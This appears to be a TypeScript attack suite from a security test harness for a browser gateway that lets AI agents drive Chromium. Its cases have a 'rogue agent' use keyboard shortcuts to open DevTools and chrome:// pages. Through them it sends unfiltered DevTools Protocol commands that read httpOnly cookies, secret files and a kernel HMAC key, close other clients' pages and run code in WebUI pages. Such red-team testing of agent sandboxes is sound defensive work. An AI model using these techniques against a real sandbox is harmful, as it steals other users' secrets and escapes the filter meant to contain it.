// The accelerator channel and WebUI: a key press Playwright could send (Input.dispatchKeyEvent)
// is a browser command to Chromium — Ctrl+Shift+J/I or F12 open a DevTools frontend whose
// embedder speaks raw, unfiltered CDP; Ctrl+H, Ctrl+T/N open chrome:// WebUI pages; and
// chrome:// targets exist from the start. Harm: what the attacker read or ran through them.
import { join } from 'node:path'
import type { Attack } from '../types.ts'
import { waitUntil } from '../../util/wait.ts'
import { closePage, evaluate, navigate, openPage, reason, type PageHandle } from '../cdp-client.ts'
import { asRogue, browserRestarted, nonce, plantCookie, plantSecretFile } from './cdp.ts'
import { closeNew, CTRL_H, CTRL_N, CTRL_SHIFT_N, CTRL_T, newTarget, press, targets } from './accelerators.ts'
import { attempt, DEEP_TEXT, direct, withFrontend } from './side-effect-tools.ts'

export const CHANNEL_ATTACKS: Attack[] = [
  {
    id: 'accelerator-devtools-cookies',
    category: 'side-effects',
    description: 'A rogue agent presses Ctrl+Shift+J (then Ctrl+Shift+I, F12) on a page with Input.dispatchKeyEvent: ' +
      'Chromium opens a DevTools frontend; the agent attaches to it and sends raw CDP through InspectorFrontendHost.sendMessageToBackend ' +
      '(Network.getAllCookies) to read an httpOnly cookie.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const secret = nonce('cookie')
      await plantCookie(ctx, secret)
      try {
        return await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
          let stolen = false
          if (ch !== undefined) {
            const r = await attempt('Network.getAllCookies via the frontend', async () => await ch.send('Network.getAllCookies'))
            stolen = r.ok && JSON.stringify(r.value).includes(secret)
            notes.push(stolen ? 'Network.getAllCookies via the frontend: secret returned' : r.note)
          }
          return { harm: stolen, evidence: `${notes.join('; ')}; oracle: httpOnly cookie ${stolen ? 'read through the DevTools channel' : 'not read'}` }
        }))
      } finally { await plantCookie(ctx, null).catch(() => {}) }
    },
  },
  {
    id: 'accelerator-devtools-file-read',
    category: 'side-effects',
    description: 'Through the DevTools channel (Ctrl+Shift+J, raw CDP via the frontend) a rogue agent navigates its page to ' +
      'file:///<workspace>/secret and reads it, and to the kernel\'s connection file (its path is what /health tells) and reads the HMAC key.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const path = join(ctx.d.internals.workspace.root, `${nonce('file')}.txt`)
      const { secret, remove } = await plantSecretFile(path)
      const key = await ctx.oracle.kernelKey()
      const connFile = String((await ctx.oracle.kernel('GET', '/kernel/status')).json?.connection_file ?? '')
      try {
        return await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
          const got: string[] = []
          if (ch !== undefined) {
            for (const [what, file, needle] of [['workspace secret', path, secret], ['kernel connection file', connFile, key]] as const) {
              if (file === '') continue
              const r = await attempt(`${what} via the frontend`, async () => {
                await ch.send('Page.navigate', { url: `file://${file}` })
                let text = ''
                await waitUntil('the file page', async () => (text = String((await ch.send<{ result: { value?: unknown } }>('Runtime.evaluate', {
                  expression: 'document.body ? document.body.innerText : ""',
                  returnByValue: true,
                })).result.value ?? '')).includes(needle), 5000, 150).catch(() => {})
                return text.includes(needle)
              })
              notes.push(r.ok ? `${what}: ${r.value ? 'read' : 'not shown'}` : r.note)
              if (r.ok && r.value) got.push(what)
            }
          }
          return { harm: got.length > 0, evidence: `${notes.join('; ')}; oracle: ${got.length > 0 ? `${got.join(' and ')} read by the attacker` : 'nothing read'}` }
        }))
      } finally { await remove() }
    },
  },
  {
    id: 'accelerator-devtools-browser-close',
    category: 'side-effects',
    description: 'Through the DevTools channel (Ctrl+Shift+J, raw CDP via the frontend) a rogue agent sends Browser.close, ' +
      'which the gateway refuses when sent directly: every window closes (another client\'s page is gone) or the browser restarts.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      // The victim: a page another client has open in the shared browser (harness view).
      const victim = await direct(ctx, async c => (await c.send<{ targetId: string }>('Target.createTarget', { url: 'about:blank' }, undefined, 5000)).targetId)
      const victimAlive = async (): Promise<boolean> => await direct(ctx, async c =>
        (await c.send<{ targetInfos: Array<{ targetId: string }> }>('Target.getTargets', {}, undefined, 5000)).targetInfos.some(x => x.targetId === victim)).catch(() => false)
      const before = await ctx.oracle.browserId()
      let sent = false
      const out = await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
        if (ch !== undefined) {
          // the frontend's own connection is to the tab target: Browser.* answers on the page session
          const r = await attempt('Browser.close via the frontend', async () => await ch.send('Browser.close'))
          sent = true
          notes.push(r.note)
        }
        return { harm: false, evidence: notes.join('; ') }
      }))
      // Browser.close through the frontend closes every window (headless Chromium may then stay up,
      // with the sandbox reopening one blank tab): the harm is the other client's page gone, or a restart.
      const restarted = await browserRestarted(ctx, before, sent ? 15_000 : 2000)
      const closed = !restarted && sent && await waitUntil('the victim page to go', async () => !await victimAlive(), 10_000, 200).then(() => true, () => false)
      if (!restarted && !closed) await direct(ctx, async c => { await c.send('Target.closeTarget', { targetId: victim }, undefined, 5000) }).catch(() => {})
      return {
        harm: restarted || closed,
        evidence: `${out.evidence}; oracle: ` +
          `${restarted ? 'browser closed and restarted' : closed ? 'every window closed (another client\'s page gone)' : 'browser and the other client\'s page still there'}`,
      }
    },
  },
  {
    id: 'webui-history-read',
    category: 'side-effects',
    description: 'Another client visits a site URL carrying a secret and closes the tab; ' +
      'a rogue agent presses Ctrl+H (or opens chrome://history with Target.createTarget), attaches to the WebUI page and reads the secret from it.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const secret = nonce('visited')
      const visited = `${ctx.fixtures.site}/?token=${secret}`
      await direct(ctx, async v => {
        const p = await openPage(v)
        try {
          await navigate(v, p.sessionId, visited)
          await new Promise(resolve => setTimeout(resolve, 500))
        } finally { await closePage(v, p) }
      })
      try {
        return await asRogue(ctx, async c => {
          const before = new Set((await targets(c)).map(t => t.targetId))
          const notes: string[] = []
          let page: PageHandle | undefined
          let text = ''
          try {
            page = await openPage(c)
            await navigate(c, page.sessionId, ctx.fixtures.evilPage('<!doctype html><title>attacker</title>'))
            const r = await attempt(`press ${CTRL_H.label}`, async () => { await press(c, (page as PageHandle).sessionId, CTRL_H) })
            notes.push(r.note)
            let target = await newTarget(c, before, t => t.url.startsWith('chrome://history'), 6000)
            if (target === undefined) {
              const made = await attempt('Target.createTarget chrome://history', async () => await c.send<{ targetId: string }>('Target.createTarget', { url: 'chrome://history/' }))
              notes.push(made.note)
              if (made.ok) target = { targetId: made.value.targetId, type: 'page', url: 'chrome://history/' }
            } else notes.push(`${CTRL_H.label} opened ${target.url}`)
            if (target !== undefined) {
              const t = target
              const got = await attempt('attach + read chrome://history', async () => {
                const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true })
                await waitUntil('the history list', async () => (text = await evaluate<string>(c, sessionId, DEEP_TEXT, { timeoutMs: 3000 })).includes(secret), 8000, 250).catch(() => {})
                return text.length
              })
              notes.push(got.ok ? `chrome://history read (${got.value} chars)` : got.note)
            }
          } catch (err) { notes.push(reason(err)) } finally {
            await closePage(c, page)
            await closeNew(c, before)
          }
          const harm = text.includes(secret)
          return { harm, evidence: `${notes.join('; ')}; oracle: the other client's secret URL ${harm ? 'read from chrome://history' : 'not read'}` }
        })
      } finally { await direct(ctx, async v => { await v.send('Storage.clearDataForOrigin', { origin: ctx.fixtures.site, storageTypes: 'all' }) }).catch(() => {}) }
    },
  },
  {
    id: 'webui-target-attach',
    category: 'side-effects',
    description: 'A rogue agent attaches to a chrome:// target Chromium already has (browser_ui: the omnibox popup, a WebUI page with Mojo bindings) and runs code in it (sets its title to a nonce).',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const mark = nonce('webui')
      return await asRogue(ctx, async c => {
        const ui = (await targets(c)).filter(t => /^chrome(-untrusted)?:\/\//.test(t.url))
        const notes: string[] = [`${ui.length} chrome:// targets visible (${[...new Set(ui.map(t => t.type))].join(', ') || 'none'})`]
        for (const t of ui.slice(0, 3)) {
          const r = await attempt(`attach ${t.type} ${t.url.slice(0, 40)}`, async () => {
            const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true }, undefined, 5000)
            try {
              return await evaluate<string>(c, sessionId, `document.title = ${JSON.stringify(mark)}; location.href`, { timeoutMs: 5000 })
            } finally { await c.send('Target.detachFromTarget', { sessionId }, undefined, 3000).catch(() => {}) }
          })
          notes.push(r.ok ? `code ran in ${r.value.slice(0, 50)}` : r.note)
        }
        const seen = await direct(ctx, async v => (await targets(v)).some(t => t.title === mark))
        return { harm: seen, evidence: `${notes.join('; ')}; oracle: ${seen ? 'a chrome:// page carries the attacker\'s title' : 'no chrome:// page touched'}` }
      })
    },
  },
  {
    id: 'accelerator-webui-tabs',
    category: 'side-effects',
    description: 'A rogue agent presses Ctrl+T, Ctrl+N and Ctrl+Shift+N (incognito) on a page: ' +
      'Chromium opens chrome:// new-tab pages (WebUI) in new tabs and windows; the agent attaches to one and runs code in it.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const mark = nonce('newtab')
      return await asRogue(ctx, async c => {
        const before = new Set((await targets(c)).map(t => t.targetId))
        const notes: string[] = []
        let page: PageHandle | undefined
        try {
          page = await openPage(c)
          await navigate(c, page.sessionId, `${ctx.fixtures.site}/`)
          for (const chord of [CTRL_T, CTRL_N, CTRL_SHIFT_N]) {
            const seen = new Set((await targets(c)).map(t => t.targetId))
            const r = await attempt(chord.label, async () => { await press(c, (page as PageHandle).sessionId, chord) })
            const t = r.ok ? await newTarget(c, seen, x => x.type === 'page' && x.url.startsWith('chrome://'), 4000) : undefined
            if (t === undefined) { notes.push(r.ok ? `${chord.label}: no chrome:// tab` : r.note); continue }
            const ran = await attempt(`${chord.label} opened ${t.url}; attach`, async () => {
              const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true }, undefined, 5000)
              return await evaluate<string>(c, sessionId, `document.title = ${JSON.stringify(mark)}; location.href`, { timeoutMs: 5000 })
            })
            notes.push(ran.ok ? `${chord.label}: code ran in ${ran.value}` : ran.note)
          }
        } catch (err) { notes.push(reason(err)) }
        const harm = await direct(ctx, async v => (await targets(v)).some(t => t.title === mark && t.url.startsWith('chrome://')))
        await closePage(c, page)
        await closeNew(c, before)
        return { harm, evidence: `${notes.join('; ')}; oracle: ${harm ? 'a chrome:// tab carries the attacker\'s title' : 'no chrome:// tab touched'}` }
      })
    },
  },
]
